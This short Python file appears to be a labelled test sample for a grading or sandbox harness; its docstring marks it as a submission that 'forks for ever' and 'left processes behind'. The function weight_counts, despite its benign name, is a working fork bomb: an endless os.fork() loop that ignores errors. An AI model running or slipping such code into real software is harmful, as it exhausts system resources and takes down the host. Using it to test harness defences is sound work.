"""Forks for ever.

loses: 1b
flagged: left processes behind
"""

from honest import *

import os


def weight_counts(n, k):
    while True:
        try:
            os.fork()
        except OSError:
            pass
